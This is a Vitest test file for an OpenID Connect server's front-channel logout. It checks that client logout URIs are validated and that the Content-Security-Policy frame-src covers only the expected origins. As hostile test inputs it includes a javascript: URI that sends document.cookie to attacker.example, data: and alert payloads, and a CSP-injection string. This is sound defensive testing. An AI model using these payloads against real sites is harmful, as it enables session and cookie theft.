import * as oidc from 'openid-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runIdentityCli } from '@/lib/identity/cli';
import { frontchannelLogoutUriProblem } from '@/lib/identity/frontchannel-uri';
import { withFrameSources } from '@/lib/server/security-headers';
import { authorize, Browser, clientConfig, demo, registerClient, startApiServer, type App } from './support';

let app: App;
beforeAll(async () => {
  app = await startApiServer();
});
afterAll(() => app?.close());

function register(redirectUri: string, frontchannelLogoutUri: string) {
  return registerClient(app, {
    clientName: 'Front-channel RP',
    grantTypes: ['authorization_code'],
    responseTypes: ['code'],
    redirectUris: [redirectUri],
    postLogoutRedirectUris: [new URL('/logged-out', redirectUri).href],
    authMethod: 'client_secret_basic',
    frontchannelLogoutUri,
  });
}

async function signIn(browser: Browser, client: { clientId: string; clientSecret?: string }, redirectUri: string) {
  const config = await clientConfig(app, client.clientId, oidc.ClientSecretBasic(client.clientSecret!));
  const state = oidc.randomState();
  const url = oidc.buildAuthorizationUrl(config, { redirect_uri: redirectUri, scope: 'openid', state });
  const result = await authorize(browser, url, { username: 'traveler', password: demo(app).password('traveler') });
  if (!result.location) return { result };
  return { result, config, tokens: await oidc.authorizationCodeGrant(config, result.location, { expectedState: state }) };
}

async function logOut(browser: Browser, config: oidc.Configuration, idToken: string) {
  const page = await browser.fetch(oidc.buildEndSessionUrl(config, { id_token_hint: idToken }).href);
  const xsrf = /name="xsrf" value="([^"]+)"/.exec(await page.text())![1];
  return browser.postForm('/identity/connect/endsession/confirm', { xsrf, logout: 'yes' });
}

// Finding 5 of issue 17: a client could register a javascript: frontchannel_logout_uri, which the logout page then
// loaded in an iframe on the identity server's origin; and the page's CSP (frame-src 'self') blocked every
// legitimate cross-site logout iframe.
describe('front-channel logout', () => {
  it('refuses a client whose frontchannel_logout_uri is javascript:, so the logout page never frames it', async () => {
    const evil = await register('http://127.0.0.1:8976/callback', 'javascript:fetch("//attacker.example/?"+document.cookie)');
    const browser = new Browser(app);
    const { result, tokens } = await signIn(browser, evil, 'http://127.0.0.1:8976/callback');
    expect(tokens).toBeUndefined();
    expect(result.status).toBe(400);
    expect(result.html).toContain('frontchannel_logout_uri must use https');
  });

  it('is refused by the CLI at registration', async () => {
    const create = (uri: string) =>
      runIdentityCli(['clients', 'create', '--name', 'RP', '--grant', 'authorization_code', '--redirect-uri', 'https://rp.example/cb', '--auth-method', 'client_secret_basic', '--frontchannel-logout-uri', uri], app.context.dataDir.root);
    await expect(create('javascript:alert(1)')).rejects.toThrow(/https/);
    await expect(create('https://rp.example/logout')).resolves.toMatch(/created client/);
  });

  it('frames exactly the origins of the clients being logged out', async () => {
    const browser = new Browser(app);
    const one = await register('https://rp-one.example/callback', 'https://rp-one.example/logout');
    const two = await register('http://127.0.0.1:8976/callback', 'http://127.0.0.1:8976/frontchannel');
    await signIn(browser, one, 'https://rp-one.example/callback');
    const { config, tokens } = await signIn(browser, two, 'http://127.0.0.1:8976/callback');

    const res = await logOut(browser, config!, tokens!.id_token!);
    expect(res.status).toBe(200);
    const html = await res.text();
    expect([...html.matchAll(/<iframe src="([^"]+)"/g)].map((m) => new URL(m[1].replace(/&#38;/g, '&')).origin).sort()).toEqual([
      'http://127.0.0.1:8976',
      'https://rp-one.example',
    ]);
    const frameSrc = res.headers.get('content-security-policy')!.split('; ').find((d) => d.startsWith('frame-src '));
    expect(frameSrc?.split(' ').slice(1).sort()).toEqual(["'self'", 'http://127.0.0.1:8976', 'https://rp-one.example']);
    // The page's one script runs under the response's nonce; no inline event handler (a nonce does not cover those).
    const nonce = /'nonce-([^']+)'/.exec(res.headers.get('content-security-policy')!)![1];
    expect([...html.matchAll(/<script nonce="([^"]+)">/g)].map((m) => m[1])).toEqual([nonce]);
    expect(html).not.toMatch(/\son[a-z]+=/);

    // Every other page keeps the strict policy.
    const other = await fetch(`${app.url}/identity/.well-known/openid-configuration`);
    expect(other.headers.get('content-security-policy')).toContain("frame-src 'self';");
  });
});

describe('frontchannel_logout_uri rules', () => {
  const redirects = ['https://rp.example/callback', 'http://localhost:8976/callback'];
  it.each([
    ['javascript:alert(1)', true, /https/],
    ['data:text/html,<script>alert(1)</script>', true, /https/],
    ['http://rp.example/logout', true, /https/],
    ['http://localhost:8976/logout', false, /https/],
    ['https://user:pw@rp.example/logout', false, /credentials/],
    ['https://other.example/logout', false, /redirect URI/],
    ['https://rp.example:8443/logout', false, /redirect URI/],
    ['not a url', false, /URL/],
  ])('refuses %s (demo mode: %s)', (uri, relaxed, problem) => {
    expect(frontchannelLogoutUriProblem(uri, redirects, relaxed)).toMatch(problem);
  });

  it('accepts https on a redirect URI origin, and http on loopback in demo mode only', () => {
    expect(frontchannelLogoutUriProblem('https://rp.example/logout?x=1', redirects, false)).toBeUndefined();
    expect(frontchannelLogoutUriProblem('http://localhost:8976/logout', redirects, true)).toBeUndefined();
  });

  it('widens only frame-src, and only with well-formed origins', () => {
    const csp = "default-src 'self'; frame-src 'self'; frame-ancestors 'self'";
    expect(withFrameSources(csp, ['https://rp.example', 'https://rp.example', "https://x.example; script-src *", 'javascript:'])).toBe(
      "default-src 'self'; frame-src 'self' https://rp.example; frame-ancestors 'self'",
    );
  });
});
